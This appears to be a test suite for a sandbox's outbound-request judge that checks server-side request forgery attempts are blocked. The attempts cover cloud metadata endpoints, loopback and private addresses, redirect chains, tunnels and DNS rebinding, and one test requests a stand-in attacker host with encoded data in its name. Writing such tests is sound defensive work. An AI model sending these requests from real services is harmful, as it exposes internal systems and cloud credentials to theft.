/** Server-side request forgery: the gate says yes to everything, and still nothing near this machine is reached. */
import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { strictJudge } from '../../../src/sandbox/egress/judge.ts'
import { credulousJudge } from './credulous-judge.ts'
import { egressWorld, type EgressWorld, publicAddress, statusOf, type WorldOptions } from './egress-world.ts'
import { forbiddenAddresses, forbiddenAnswers } from './forbidden-addresses.ts'

const conventional: { readonly [name: string]: readonly string[] } = {
  localhost: ['127.0.0.1'],
  'app.localhost': ['127.0.0.1'],
  'localhost.localdomain': ['127.0.0.1'],
  loopback: ['127.0.0.1'],
  'ip6-localhost': ['::1'],
  metadata: ['169.254.169.254'],
  'metadata.google.internal': ['169.254.169.254'],
  'instance-data': ['169.254.169.254'],
}

const names = {
  ...conventional,
  ...Object.fromEntries(forbiddenAnswers.map(({ text, answers }) => [text, answers])),
}

const everything = [...forbiddenAddresses, ...forbiddenAnswers]

/** Asks as a program does that follows redirects, and returns the last status. */
async function follow(world: EgressWorld, address: string): Promise<number> {
  let next = address
  for (let hop = 0; hop < 8; hop += 1) {
    const reply = await world.get(next)
    const location = /^location: (?<to>\S+)/im.exec(reply)?.groups?.['to']
    if (location === undefined) return statusOf(reply)
    next = location
  }
  return 0
}

/** The ways in which a program can ask for an address. */
const ways: { readonly [way: string]: (world: EgressWorld, text: string) => Promise<number> } = {
  'a request': async (world, text) => statusOf(await world.get(`http://${text}/latest/meta-data/`)),
  'a tunnel': (world, text) => world.tunnel(/:\d+$/.test(text) ? text : `${text}:443`),
  'a request for https': async (world, text) => statusOf(await world.get(`https://${text}/`)),
  'a redirect': (world, text) => follow(world, `http://open.example/to?${text}`),
  'a chain of redirects': (world, text) => follow(world, `http://open.example/via?${text}`),
}

/** Answers `/to?X` with a redirect to X, and `/via?X` with one to another host that then redirects to X. */
const server: NonNullable<WorldOptions['server']> = (request, response) => {
  const [path = '', query = ''] = (request.url ?? '').split(/\?(.*)/s)
  const location =
    path === '/to' ? `http://${query}/secret` : path === '/via' ? `http://other.example/to?${query}` : null
  if (location === null) return void response.end('reached')
  response.writeHead(302, { location })
  response.end()
}

const closing: NonNullable<WorldOptions['outside']> = (stream) => void stream.end()

function forbiddenDials(world: EgressWorld): readonly string[] {
  return world.dials.filter((dial) => !dial.startsWith(`${publicAddress}:`))
}

for (const [way, attempt] of Object.entries(ways)) {
  const outside = way.includes('redirect') || way === 'a request' ? {} : { outside: closing }
  suite(`by ${way}`, () => {
    test(`${everything.length} addresses connect nowhere`, async () => {
      await using world = await egressWorld({ names, server, ...outside })
      for (const { text } of everything) {
        const status = await attempt(world, text)
        assert.ok(status >= 400 && status < 500, `${text} was answered with ${status}`)
        assert.deepEqual(forbiddenDials(world), [], text)
      }
      assert.equal(
        world.outcomes.filter(({ outcome, result }) => outcome === 'done' && result.status !== 302).length,
        0,
      )
    })

    test('each of them connects when the judge is taken out', async () => {
      for (const { text, reaches } of everything) {
        await using world = await egressWorld({ names, server, judge: credulousJudge, ...outside })
        await attempt(world, text)
        const hosts = world.dials.map((dial) => dial.replace(/:\d+$/, ''))
        assert.equal(hosts.at(-1), reaches, text)
      }
    })
  })
}

test('nothing is looked up for what is written as an address, or means one', async () => {
  await using world = await egressWorld({ names, server })
  for (const { text } of forbiddenAddresses) await world.get(`http://${text}/`)
  assert.deepEqual(world.lookups, [])
})

test('nothing is looked up before the gate has said yes', async () => {
  await using world = await egressWorld({
    gate: {
      ask: () => Promise.resolve({ kind: 'refused', code: 'not-held', message: '', needed: '', seq: 1 }),
    },
  })
  assert.equal(statusOf(await world.get('http://c2VjcmV0.attacker.example/')), 403)
  assert.deepEqual(world.lookups, [])
  assert.deepEqual(world.dials, [])
})

test('a name that is answered otherwise the second time is judged the second time', async () => {
  let round = 0
  const answers = (): readonly string[] => (round++ % 2 === 0 ? [publicAddress] : ['127.0.0.1'])
  await using world = await egressWorld({ names: { 'rebinding.example': answers } })
  assert.equal(statusOf(await world.get('http://rebinding.example/')), 200)
  assert.equal(statusOf(await world.get('http://rebinding.example/')), 403)
  assert.deepEqual(world.dials, [`${publicAddress}:80`])
  assert.equal(world.lookups.length, 2)
})

test('one exchange looks its name up once, and goes to what was judged', async () => {
  let round = 0
  const answers = (): readonly string[] => (round++ === 0 ? [publicAddress] : ['10.0.0.1'])
  await using world = await egressWorld({ names: { 'once.example': answers } })
  await world.get('http://once.example/')
  assert.deepEqual(world.lookups, ['once.example'])
  assert.deepEqual(world.dials, [`${publicAddress}:80`])
})

test('open and forbidden addresses mixed under one name spoil the name', async () => {
  for (const answers of [
    [publicAddress, '10.0.0.1'],
    [publicAddress, '::1'],
    [publicAddress, 'not an address'],
    [],
  ]) {
    await using world = await egressWorld({ names: { 'mixed.example': answers } })
    assert.ok(statusOf(await world.get('http://mixed.example/')) >= 400)
    assert.deepEqual(world.dials, [])
  }
})

test('the public addresses of this machine are near it too', async () => {
  await using world = await egressWorld({ judge: strictJudge(() => ['fe80::1', publicAddress]) })
  assert.equal(statusOf(await world.get(`http://${publicAddress}/`)), 403)
  assert.equal(statusOf(await world.get('http://self.example/')), 403)
  assert.deepEqual(world.dials, [])
})

test('an address that is granted beside its host is reached, for that host and without a look-up', async () => {
  const pins = (host: string): Promise<readonly string[]> =>
    Promise.resolve(host === 'mirror.internal' || host === 'localhost' ? ['127.0.0.1'] : [])
  await using world = await egressWorld({ gate: { pins } })
  assert.equal(statusOf(await world.get('http://mirror.internal:8080/')), 200)
  assert.equal(statusOf(await world.get('http://localhost:8080/')), 200)
  assert.deepEqual(world.lookups, [])
  assert.equal(statusOf(await world.get('http://127.0.0.1:8080/')), 403)
  assert.equal(statusOf(await world.get('http://app.localhost:8080/')), 403)
  assert.deepEqual(world.dials, ['127.0.0.1:8080', '127.0.0.1:8080'])
  assert.deepEqual(
    world.asked.map(({ address }) => address),
    ['127.0.0.1', '127.0.0.1', '127.0.0.1', '127.0.0.1'],
  )
})

test('names that mean nothing outside the local network are not looked up', async () => {
  await using world = await egressWorld()
  for (const name of ['printer.local', 'site.onion', '1.0.0.127.in-addr.arpa', 'x.invalid'])
    assert.ok(statusOf(await world.get(`http://${name}/`)) >= 400, name)
  assert.deepEqual(world.lookups, [])
  assert.deepEqual(world.dials, [])
})
